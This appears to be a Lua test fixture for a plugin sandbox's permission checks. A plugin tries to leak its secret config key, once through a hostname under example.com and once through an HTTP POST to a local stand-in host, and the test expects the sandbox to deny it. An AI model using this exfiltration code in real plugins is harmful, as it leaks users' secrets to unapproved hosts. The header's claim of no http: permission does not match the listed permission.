-- secret_elsewhere.lua - Sends a secret to a host that nobody approved, and as the host's own
-- name.
-- expect: error denied /no answer: the plugin's permissions have no http: entry/
-- open:   0
-- config: {"key":"hunter2-that-no-plugin-sees"}
local http = require "moonhook.http"

return {
  name = "secret-elsewhere", version = "1.0.0", permissions = { "alerts:read", "http:api.example.com" },
  config = { key = { type = "string", secret = true } },
  on_alert = function(_, ctx)
    assert(http.get("http://" .. ctx.config.key .. ".example.com/").error.code == "denied")
    http.post("http://127.0.0.2:OPEN_PORT/?k=" .. ctx.config.key, { body = ctx.config.key }):expect(200)
  end,
}
